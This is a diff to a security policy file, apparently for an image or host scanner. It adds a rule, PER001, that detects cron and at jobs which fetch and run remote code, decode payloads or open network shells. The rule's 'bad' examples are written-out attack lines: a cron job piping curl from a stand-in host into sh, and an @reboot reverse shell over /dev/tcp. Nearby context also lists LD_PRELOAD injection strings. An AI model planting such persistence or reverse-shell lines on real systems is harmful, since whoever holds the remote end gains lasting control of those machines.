@@ -189,3 +189,17 @@ rule "PER012" {
   bad      = ["LD_PRELOAD=/tmp/q.so ls", "export LD_PRELOAD=/dev/shm/q.so"]
   good     = ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server --version", "export LD_PRELOAD="]
 }
+
+rule "PER001" {
+  title    = "scheduled job fetches, decodes or connects"
+  severity = "high"
+  on       = "write"
+  when = (!write.deleted && write.final && matches(write.path, "^/etc/(crontab|anacrontab)$", "^/etc/cron[.](d|hourly|daily|weekly|monthly)/", "^/var/spool/(cron|at)/") &&
+    matches(write.content, "^[^#]*(curl|wget|fetch)[^#|;&]*[|][^#]*(sh|python[0-9.]*|perl)( |$)", "^[^#]*(sh|eval) .*[$][(](curl|wget)", "^[^#]*/dev/(tcp|udp)/", "^[^#]*(base64|openssl enc|xxd)[^#]*(-d|-r|--decode)", "^[^#]*[ /](nc|ncat|netcat|socat) [^#]*(-e|-c|exec:|EXEC:)"))
+  message  = "${write.path} lets a job fetch and run code, or connect, again and again"
+  why      = "whoever controls the other end controls every machine of the image, whenever he likes"
+  fix      = "install what the job runs with the package manager, at a version that was reviewed"
+  refs     = ["CWE-494", "CWE-912", "ATT&CK T1053.003"]
+  bad      = ["echo '*/5 * * * * root curl -fsSL https://cc.example.org/j | sh' > /etc/cron.d/job", "echo '@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >> /etc/crontab"]
+  good     = ["echo '17 3 * * * root /usr/bin/certbot renew' > /etc/cron.d/certbot", "echo '# curl -fsSL https://x.example | sh' > /etc/cron.d/note"]
+}
